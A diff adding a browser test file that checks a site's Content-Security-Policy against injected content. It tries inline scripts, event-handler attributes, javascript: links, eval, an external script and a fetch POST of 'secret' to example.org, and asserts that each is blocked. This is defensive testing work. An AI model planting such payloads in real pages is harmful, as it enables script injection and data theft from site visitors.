@@ -1,0 +1,115 @@
+import type { Page } from 'playwright-core';
+import { describe, expect, it } from 'vitest';
+import { withPolicy } from '../../scripts/deploy/content-security-policy.ts';
+import { ALL_PATHS } from './pages.ts';
+import { useSite } from './use-site.ts';
+
+/**
+ * What the Content-Security-Policy lets through. The server of the tests sends the headers that hosts send, and every
+ * browser test fails where the console tells of a breach, so each feature is tried under the policy by its own test.
+ */
+const site = useSite();
+
+/** What an attacker might get into a page, each with what the browser would then have done. */
+const INJECTIONS: Record<string, (page: Page) => Promise<unknown>> = {
+  'a script in the page': (page) =>
+    page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'document.title = "injected"';
+      document.body.append(script);
+    }),
+  'an event handler': (page) =>
+    page.evaluate(() => {
+      const button = document.createElement('button');
+      button.setAttribute('onclick', 'document.title = "injected"');
+      document.body.append(button);
+      button.click();
+    }),
+  'HTML with a picture that fails': (page) =>
+    page.evaluate(() => {
+      document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="document.title = \'injected\'">');
+    }),
+  'a link that is a script': (page) =>
+    page.evaluate(() => {
+      document.body.insertAdjacentHTML('beforeend', '<a href="javascript:document.title = \'injected\'">x</a>');
+      document.querySelector<HTMLElement>('body > a:last-child')?.click();
+    }),
+  'text that is run': (page) => page.evaluate('(0, eval)(\'document.title = "injected"\')').catch(() => undefined),
+  'a script of another host': (page) =>
+    page.evaluate(() => {
+      const script = document.createElement('script');
+      script.src = 'https://example.org/injected.js';
+      document.body.append(script);
+    }),
+  'a message to another host': (page) =>
+    page.evaluate(() => fetch('https://example.org/', { method: 'POST', body: 'secret' }).catch(() => undefined)),
+  'a form to another host': (page) =>
+    page.evaluate(() => {
+      document.body.insertAdjacentHTML('beforeend', '<form action="https://example.org/" method="post"></form>');
+      document.querySelector<HTMLFormElement>('body > form:last-child')?.submit();
+    }),
+  'another base of all addresses': (page) =>
+    page.evaluate(() => {
+      document.head.insertAdjacentHTML('afterbegin', '<base href="https://example.org/">');
+    }),
+  'an object': (page) =>
+    page.evaluate(() => {
+      document.body.insertAdjacentHTML('beforeend', '<object data="/favicon.svg"></object>');
+    }),
+};
+
+const openTopic = async (page: Page) => {
+  await page.goto(`${site.url}/topics/transport-08/`, { waitUntil: 'networkidle' });
+};
+
+/** Has pages carry the policy themselves, as for hosts that send no headers of ours. */
+async function sendInPages(page: Page): Promise<void> {
+  await page.route('**/topics/**', async (route) => {
+    const response = await route.fetch();
+    const headers = response.headers();
+    delete headers['content-security-policy'];
+    await route.fulfill({ headers, body: withPolicy(await response.text()) });
+  });
+  await openTopic(page);
+}
+
+describe.each([
+  ['in a header', openTopic],
+  ['in the page', sendInPages],
+])('the policy %s', (_, open) => {
+  it.each(Object.entries(INJECTIONS))('blocks %s', async (__, inject) => {
+    const faults = await site.visit('/about/', {}, async (page) => {
+      await open(page);
+      const title = await page.title();
+      await inject(page);
+      await page.waitForTimeout(200);
+      expect(await page.title()).toBe(title);
+      expect(new URL(page.url()).pathname).toBe('/topics/transport-08/');
+    });
+    expect(faults.join('\n')).toMatch(/Content Security Policy/);
+    expect(faults.filter((fault) => fault.startsWith('request:'))).toEqual([]);
+  });
+
+  it('lets the search work', async () => {
+    const faults = await site.visit('/about/', {}, async (page) => {
+      await open(page);
+      await page.locator('.search-button').click();
+      await page.locator('.search-dialog input').fill('报名');
+      await expect.poll(() => page.locator('.search-pages .search-result').count()).toBeGreaterThan(0);
+    });
+    expect(faults).toEqual([]);
+  });
+});
+
+it('the policy is broken by no page', async () => {
+  const faults = await site.visit('/', {}, async (page) => {
+    for (const path of ALL_PATHS) await page.goto(`${site.url}${path}`, { waitUntil: 'networkidle' });
+  });
+  expect(faults).toEqual([]);
+});
+
+it('no other site may show a page in a frame', async () => {
+  const { headers } = await fetch(`${site.url}/`);
+  expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
+  expect(headers.get('x-frame-options')).toBe('DENY');
+});
